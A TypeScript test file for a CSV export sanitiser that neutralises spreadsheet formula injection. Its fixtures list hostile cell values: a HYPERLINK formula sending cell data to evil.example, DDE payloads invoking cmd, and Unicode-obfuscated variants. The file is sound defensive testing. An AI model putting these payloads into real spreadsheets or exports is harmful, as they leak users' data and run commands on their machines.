import { describe, expect, it } from 'vitest';
import { isolateBidi } from '../../shared/isolateBidi';
import { csvSafe } from './csvSafe';

describe('CSV export against formula injection', () => {
  it("prefixes with ' every cell a spreadsheet would evaluate, headers alike", () => {
    for (const hostile of [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+cmd|"/c calc"!A0',
      '-2+3+cmd|"/c calc"!A0',
      '@SUM(1+9)*cmd|"/c calc"!A0',
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '\u200B=1+1',
      '\uFF1D1+1',
    ])
      expect(csvSafe(hostile)).toBe(`'${hostile}`);
  });

  it('leaves numbers numbers and other text as it is', () => {
    for (const plain of ['-0.5', '+3', '-1e-4', '.5', '0.001', 'val_accuracy', 'COMPLETED', '', 'a=b', '2026-12-02'])
      expect(csvSafe(plain)).toBe(plain);
  });

  it('a name with bidi controls is isolated and then neutralised', () => {
    const name = '\u202E=1+1';
    expect(csvSafe(isolateBidi(name))).toBe(`'\u2068${name}\u2069`);
  });
});
